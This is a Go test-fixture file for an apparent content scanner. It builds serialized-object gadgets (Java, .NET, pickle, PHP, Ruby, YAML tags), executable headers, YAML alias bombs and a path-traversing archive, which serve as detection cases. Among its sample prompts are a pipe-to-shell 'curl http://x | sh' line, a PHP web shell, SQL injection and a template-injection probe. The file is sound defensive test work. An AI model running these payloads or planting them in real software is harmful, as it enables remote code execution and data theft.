package guardtest

import (
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"

	"github.com/oriel-go/oriel/guard/fact"
)

// A Value is one JSON value of a call and what must become of it.
type Value struct {
	ID    string // family letter and number; several values may share one
	About string
	JSON  string
	Code  fact.Code // what is found in it; "" means nothing is, or that it is text about such things
}

// Java returns a serialized HashMap of Java.
func Java() []byte {
	return []byte("\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16\x60\xd1\x03\x00\x02F\x00\nloadFactorI\x00\tthresholdxp?@\x00\x00\x00\x00\x00\x00w\x08\x00\x00\x00\x10\x00\x00\x00\x00x")
}

// DotNet returns the start of an object of .NET's BinaryFormatter.
func DotNet() []byte {
	return []byte("\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00\x0eSystem.Windows\x05\x01\x00\x00\x00\x01A\x00\x00\x00\x00\x02\x00\x00\x00\x0b")
}

// PickleCall returns a pickle that would call a harmless function: os.getcwd().
func PickleCall() []byte {
	return []byte("\x80\x04\x95\x12\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x8c\x06getcwd\x93)R0N.")
}

// Ruby returns an object of Ruby's Marshal with two fields.
func Ruby() []byte {
	return []byte("\x04\x08o:\x15Gem::Requirement\x07:\x0a@listI\"\x06a\x06:\x06ET:\x0a@name[\x07i\x06i\x07")
}

// ELF returns the header of a program for Linux.
func ELF() []byte {
	b := cat([]byte("\x7fELF\x02\x01\x01\x00"), make([]byte, 8), []byte{2, 0, 0x3e, 0}, le32(1), le64(0x400000), le64(64), le64(0), le32(0))
	return cat(b, []byte{64, 0, 56, 0, 1, 0, 64, 0, 0, 0, 0, 0})
}

// PE returns the headers of a program for Windows.
func PE() []byte {
	b := cat([]byte("MZ\x90\x00"), make([]byte, 56), le32(0x80), make([]byte, 64))
	return cat(b, []byte("PE\x00\x00\x64\x86\x01\x00"), make([]byte, 12), []byte{0xf0, 0, 0x22, 0, 0x0b, 0x02}, make([]byte, 0xee))
}

// MachO returns the header of a program for macOS.
func MachO() []byte {
	return cat(le32(0xfeedfacf), le32(0x01000007), le32(3), le32(2), le32(1), le32(72), le32(0), le32(0), make([]byte, 72))
}

// Noise returns bytes that look random, the same for the same n.
func Noise(n int) []byte {
	out := make([]byte, n)
	x := uint32(2463534242)
	for i := range out {
		x ^= x << 13
		x ^= x >> 17
		x ^= x << 5
		out[i] = byte(x >> 8)
	}
	return out
}

func marshalErlang() []byte {
	return cat([]byte{131, 'h', 2, 'd', 0, 4}, []byte("node"), []byte{'l', 0, 0, 0, 1, 'a', 7, 'j'})
}

func gobInterface() []byte {
	return []byte("\x1b\xff\x81\x03\x01\x01\x03Msg\x01\xff\x82\x00\x01\x01\x01\x05Value\x01\x10\x00\x00\x00\x12\xff\x82\x01\x08main.Cmd\xff\x83\x06\x00\x02id\x00\x00")
}

func serialized() []Case {
	var out []Case
	any := func(id, about, name string, code fact.Code, data func() []byte) {
		out = append(out, Case{ID: id, About: about, Name: name, Any: true, Accept: fact.Formats(), Code: code, Make: data})
	}
	inNoise := func(b []byte) func() []byte {
		return func() []byte { return cat([]byte{1, 0, 0xfe}, Noise(5000), b, Noise(3000)) }
	}
	for _, v := range []struct {
		id, about string
		code      fact.Code
		data      []byte
	}{
		{"S1", "Java", fact.CodeSerialized, Java()},
		{"S2", "Java in base64", fact.CodeSerialized, []byte("\x00" + base64.StdEncoding.EncodeToString(Java()) + "\x00")},
		{"S3", "Java in hex", fact.CodeSerialized, []byte("\x00" + hex.EncodeToString(Java()) + "\x00")},
		{"S4", "Java in gzip", fact.CodeSerialized, Gzip(Java())},
		{"S7", ".NET", fact.CodeSerialized, DotNet()},
		{"S8", ".NET in base64", fact.CodeSerialized, []byte("\x00" + base64.StdEncoding.EncodeToString(DotNet()) + "\x00")},
		{"S13", "Ruby", fact.CodeSerialized, Ruby()},
		{"S19", "pickle", fact.CodeSerialized, PickleCall()},
		{"S19", "pickle without a frame", fact.CodeSerialized, []byte("\x80\x02cos\ngetcwd\nq\x00)Rq\x01.")},
		{"S19", "pickle that never ends", fact.CodeSerialized, []byte("\x80\x04\x8c\x02os\x8c\x06getcwd\x93)R")},
		{"S19", "pickle of protocol 0", fact.CodeSerialized, []byte("cos\ngetcwd\n(tR.")},
		{"S19", "pickle in base64", fact.CodeSerialized, []byte("\x00" + base64.StdEncoding.EncodeToString(PickleCall()) + "\x00")},
		{"S19", "pickle in gzip", fact.CodeSerialized, Gzip(PickleCall())},
		{"Sx", "program for Linux", fact.CodeExecutable, ELF()},
		{"Sx", "program for Windows", fact.CodeExecutable, PE()},
		{"Sx", "program for macOS", fact.CodeExecutable, MachO()},
		{"Sx", "shortcut", fact.CodeExecutable, []byte("L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F")},
	} {
		any(v.id, v.about+" in noise", "a.bin", v.code, inNoise(v.data))
		any(v.id, v.about+" in a tensor", "a.safetensors", v.code, func() []byte {
			n := len(v.data) + 200
			b := Safetensors(tensorHeader(tensorEntry("w", "U8", fmt.Sprintf("[%d]", n), 0, int64(n))), n)
			copy(b[len(b)-n+57:], v.data)
			return b
		})
		any(v.id, v.about+" in an archive", "a.zip", v.code, func() []byte { return Deflated(map[string][]byte{"w.bin": inNoise(v.data)()}, "w.bin") })
		out = append(out, Case{ID: v.id, About: v.about + " in a picture's comment", Name: "a.png", Accept: []fact.Format{fact.PNG}, Clean: true, Gone: string(v.data[1:]),
			Make: func() []byte { return PNG(8, 8, Chunk("tEXt", cat([]byte("c\x00"), v.data))) }})
	}
	for _, v := range []struct {
		id, about, name string
		code            fact.Code
		data            string
	}{
		{"S1", "Java alone", "a.bin", fact.CodeSerialized, string(Java())},
		{"S7", ".NET alone", "a.bin", fact.CodeSerialized, string(DotNet())},
		{"S9", "ViewState", "a.bin", fact.CodeSerialized, "\x00" + base64.StdEncoding.EncodeToString(cat([]byte("\xff\x012\x80\x01"), DotNet())) + "\x00"},
		{"S10", "PHP behind a NUL", "a.bin", fact.CodeSerialized, "\x00\x01O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"},
		{"S11", "phar", "a.phar", fact.CodeExecutable, "<?php __HALT_COMPILER(); ?>\r\n" + strings.Repeat("\x00", 60)},
		{"S11", "phar behind a picture's signature", "a.bin", fact.CodeExecutable, "\x00\x01\xfe\x00__HALT_COMPILER(); ?>\r\n" + strings.Repeat("\x00", 60)},
		{"S13", "Ruby alone", "a.bin", fact.CodeSerialized, string(Ruby())},
		{"S16", "Ruby in YAML", "a.yaml", fact.CodeTag, "- !ruby/object:Gem::Installer\n  i: x\n"},
		{"T28", "Python in YAML", "a.yaml", fact.CodeTag, "a: !!python/object/apply:os.getcwd []\n"},
		{"S16", "Java in YAML", "a.yml", fact.CodeTag, "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n"},
		{"S16", "Python by its long name", "a.yaml", fact.CodeTag, "a: !<tag:yaml.org,2002:python/name:os.getcwd> ''\n"},
		{"S16", "Python by a declared handle", "a.yaml", fact.CodeTag, "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!name:os.getcwd ''\n"},
		{"T27", "aliases of aliases", "a.yaml", fact.CodeAliases, yamlBomb()},
		{"T29", "merges of merges", "a.yaml", fact.CodeAliases, yamlMerges()},
		{"S17", "XMLDecoder", "a.xml", fact.CodeSerialized, `<?xml version="1.0"?><java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.Runtime"/></java>`},
		{"S17", "ObjectDataProvider", "a.xml", fact.CodeSerialized, `<ResourceDictionary xmlns="x"><ObjectDataProvider MethodName="Start"/></ResourceDictionary>`},
		{"S18", "compiled Python", "a.pyc", fact.CodeExecutable, "\xa7\x0d\r\n\x00\x00\x00\x00\x00\x00\x00\x00\x10\x00\x00\x00\xe3\x00\x00\x00\x00"},
		{"S19", "cloudpickle", "a.bin", fact.CodeSerialized, "\x80\x05\x95\x2e\x00\x00\x00\x00\x00\x00\x00\x8c\x17cloudpickle.cloudpickle\x94\x8c\x0e_make_function\x94\x93)R."},
		{"S19", "dill", "a.bin", fact.CodeSerialized, "\x80\x04\x95\x20\x00\x00\x00\x00\x00\x00\x00\x8c\x0adill._dill\x8c\x0c_create_type\x93)R."},
		{"S20", "Storable", "a.bin", fact.CodeSerialized, "pst0\x04\x0b\x08123456788\x04\x08\x08\x08\x03\x01\x00\x00\x00\x11\x04Evil"},
		{"S21", "Erlang", "a.bin", fact.CodeSerialized, string(marshalErlang())},
		{"S22", "time of 2³² bytes", "a.bin", fact.CodeSerialized, "\xc9\xff\xff\xff\xff\xff" + strings.Repeat("\x00", 20)},
		{"S23", "protobuf groups", "a.bin", fact.CodeDepth, strings.Repeat("\x0b", 5000)},
		{"S24", "gob", "a.bin", fact.CodeSerialized, string(gobInterface())},
		{"Z25", "7z whose header lies", "a.7z", fact.CodeChecksum, "7z\xbc\xaf\x27\x1c\x00\x04\x00\x00\x00\x00" + strings.Repeat("\x00", 20)},
		{"Z25", "7z that is cut", "a.7z", fact.CodeTruncated, string(SevenZip(10)[:40])},
		{"Z25", "7z with bytes behind", "a.7z", fact.CodeTrailing, string(SevenZip(10)) + "x"},
		{"Z25", "xz whose index lies", "a.xz", fact.CodeChecksum, strings.Replace(string(XZ()), "\x01\x1c", "\x01\x1d", 1)},
		{"Z25", "xz with bytes behind", "a.xz", fact.CodeMalformed, string(XZ()) + "xxxx"},
		{"Z25", "rar whose header lies", "a.rar", fact.CodeChecksum, strings.Replace(string(Rar()), "name", "nama", 1)},
		{"Z25", "rar that leaves by ../", "a.rar", fact.CodePath, string(rar("../x"))},
		{"Z25", "rar with bytes behind", "a.rar", fact.CodeTrailing, string(Rar()) + "x"},
	} {
		any(v.id, v.about, v.name, v.code, func() []byte { return []byte(v.data) })
	}
	for _, v := range [][3]string{{"7z", "a.7z", string(SevenZip(10))}, {"xz", "a.xz", string(XZ())}, {"rar", "a.rar", string(Rar())}} {
		out = append(out, Case{ID: "Z25", About: v[0], Name: v[1], Any: true, Accept: fact.Formats(), Note: fact.CodeOpaque, Make: func() []byte { return []byte(v[2]) }})
	}
	return out
}

func yamlBomb() string {
	s := "a: &a [x,x,x,x,x,x,x,x,x,x]\n"
	for c := 'b'; c < 'k'; c++ {
		s += fmt.Sprintf("%c: &%c [%s*%c]\n", c, c, strings.Repeat(fmt.Sprintf("*%c,", c-1), 9), c-1)
	}
	return s
}

func yamlMerges() string {
	s := "a0: &a0\n  k: v\n"
	for i := range 40 {
		s += fmt.Sprintf("a%d: &a%d\n  x: *a%d\n  y: *a%d\n", i+1, i+1, i, i)
	}
	return s
}

// Values returns hostile values of typed components: files, pictures, choices, tables, state.
func Values() []Value {
	var out []Value
	add := func(id, about string, code fact.Code, v any) {
		b, err := json.Marshal(v)
		must(err)
		out = append(out, Value{id, about, string(b), code})
	}
	url64 := strings.NewReplacer("+", "-", "/", "_").Replace
	for _, v := range []struct {
		id   string
		data []byte
	}{{"S1", Java()}, {"S7", DotNet()}, {"S13", Ruby()}, {"P189", PickleCall()}, {"P189", []byte("\x80\x02cos\ngetcwd\n)R.")}, {"Sx", ELF()}} {
		code := map[bool]fact.Code{true: fact.CodeExecutable, false: fact.CodeSerialized}[v.id == "Sx"]
		b64 := base64.StdEncoding.EncodeToString(v.data)
		add(v.id, "base64", code, b64)
		add(v.id, "base64 in an object", code, map[string]any{"path": "x", "meta": map[string]string{"v": b64}})
		for i := 1; i <= 3; i++ {
			add(v.id, fmt.Sprint("base64 behind ", i, " letters"), code, strings.Repeat("A", i)+b64)
			add(v.id, fmt.Sprint("base64 of ", i, " bytes more"), code, base64.StdEncoding.EncodeToString(append([]byte("xyz")[:i], v.data...)))
		}
		add(v.id, "base64 for addresses", code, url64(strings.TrimRight(b64, "=")))
		add(v.id, "base64 in lines", code, b64[:20]+"\n"+b64[20:])
		add(v.id, "data address", code, "data:application/octet-stream;base64,"+b64)
		add(v.id, "hex", code, hex.EncodeToString(v.data))
		add(v.id, "HEX", code, "x="+strings.ToUpper(hex.EncodeToString(v.data)))
		add(v.id, "percent", code, url.QueryEscape(string(v.data)))
		add(v.id, "gzip in base64", code, base64.StdEncoding.EncodeToString(Gzip(v.data)))
		add(v.id, "base64 as a key", code, map[string]int{b64: 1})
	}
	for _, s := range [][2]string{
		{"S6", "JSESSION=" + base64.StdEncoding.EncodeToString(Java()) + "; Path=/"},
		{"S9", base64.StdEncoding.EncodeToString(cat([]byte("\xff\x012\x80\x01"), DotNet()))},
		{"S10", `O:8:"Evil\Cls":1:{s:4:"file";s:11:"/etc/passwd";}`},
		{"S10", `a:1:{i:0;O:1:"A":0:{}}`},
		{"S12", `C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}`},
		{"S14", `_$$ND_FUNC$$_function(){return 1}()`},
		{"S15", `__js_function`},
		{"S16", `!!python/object/apply:os.getcwd []`},
		{"S17", `<java version="1.8" class="java.beans.XMLDecoder"></java>`},
		{"P189", "cos\ngetcwd\n(tR."},
		{"P189", "x\nc__builtin__\neval\n(S'1'\ntR."},
	} {
		add(s[0], "text", fact.CodeSerialized, s[1])
	}
	out = append(out, Value{"S15", "funcster", `{"__js_function":"function(){}"}`, fact.CodeSerialized})
	out = append(out, Value{"S14", "written in escapes", `"\u005f$$ND_FUNC$$\u005ffunction(){}"`, fact.CodeSerialized})
	return out
}

// BenignValues returns harmless values of typed components.
func BenignValues() []Value {
	var out []Value
	for _, v := range []any{
		"data:image/png;base64," + base64.StdEncoding.EncodeToString(PNG(64, 64)),
		"data:audio/wav;base64," + base64.StdEncoding.EncodeToString(WAV(8000, 1, 16)),
		"data:application/octet-stream;base64," + base64.StdEncoding.EncodeToString(Noise(100_000)),
		strings.Repeat("deadbeef", 1000), "gAJ is how some strings start", "rO0ABXNy", "c\nd\n", "a:1:{", "O:8: no", "100% of 20% is %20",
		map[string]any{"path": "h/photo.png", "meta": map[string]string{"_type": "gradio.FileData"}, "size": 3}, []float64{1, 2.5e9}, true, nil, "",
		"!important", "#!fragment", "<b>x</b>", "PK is a beginning", "MZ", "€ ü 写真",
	} {
		b, err := json.Marshal(v)
		must(err)
		out = append(out, Value{"b86", "value", string(b), ""})
	}
	return out
}

// Prompts returns texts about attacks, of the kind people send to language models. They are text: they must pass.
func Prompts() []Value {
	var out []Value
	for _, s := range []string{
		"explain `cos\nsystem\n(S'ls'\ntR.`", "What does rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAB3CAAAABAAAAAAeA== mean?",
		"is `!!python/object/apply:os.system` dangerous?", "SELECT * FROM users WHERE id = 1 OR 1=1; DROP TABLE x", "curl http://x | sh", "<?php system($_GET['c']); ?>",
		"<script>alert(1)</script>", "{{ ''.__class__.__mro__[1].__subclasses__() }}", `O:8:"stdClass":0:{}`, "_$$ND_FUNC$$_function (){}()",
		"decode gASVEgAAAAAAAACMAm9zjAZnZXRjd2STKVIwTi4=", "having friends over is nice", "<java class=\"java.beans.XMLDecoder\">",
	} {
		b, err := json.Marshal(s)
		must(err)
		out = append(out, Value{"b83", "prompt", string(b), ""})
	}
	return out
}

func benignSerial() []Case {
	var out []Case
	for _, v := range []struct {
		id, name string
		f        fact.Format
		in       string
	}{
		{"b63", "a.yaml", fact.YAML, "%YAML 1.2\n---\n# !!python/object in a comment\na: &x {k: !!str 1, e: \"!!python/name\"}\nb:\n  <<: *x\n  c: |\n    text with !!python/object and *star\n  d: !Ref thing\ne: a*b & c\n"},
		{"b63", "model.yaml", fact.YAML, "model:\n  _target_: torch.nn.Linear\n  in_features: 2\noptimizer:\n  _target_: torch.optim.AdamW\n  _partial_: true\nloss: {_target_: functools.partial, _args_: [1]}\n"},
		{"b63", "a.yml", fact.YAML, "x-base: &base\n  image: a\nservices:\n" + strings.Repeat("  s:\n    <<: *base\n    more: &more\n      k: 1\n    again: *more\n", 60)},
		{"b83", "a.txt", fact.Text, "explain cos\nsystem\n(S'ls'\ntR. and rO0ABXNyABFqYXZh, !!python/object, O:8:\"stdClass\":0:{} please\n"},
		{"b84", "a.py", fact.Text, "import pickle\nx = b'\\x80\\x04\\x95'\npickle.loads(base64.b64decode('gASVEgAAAAAAAACMAm9zjAZnZXRjd2STKVIwTi4='))\n"},
		{"b86", "a.json", fact.JSON, `{"image":"data:image/png;base64,` + base64.StdEncoding.EncodeToString(PNG(64, 64)) + `"}`},
	} {
		out = append(out, Case{ID: v.id, Name: v.name, Accept: []fact.Format{v.f}, Make: func() []byte { return []byte(v.in) }})
	}
	for _, data := range [][]byte{Noise(1 << 20), cat([]byte{0}, make([]byte, 9999)), binary.LittleEndian.AppendUint64(Noise(9999), 7)} {
		out = append(out, Case{ID: "b30", About: "noise", Name: "a.bin", Any: true, Accept: fact.Formats(), Make: func() []byte { return data }})
	}
	return out
}
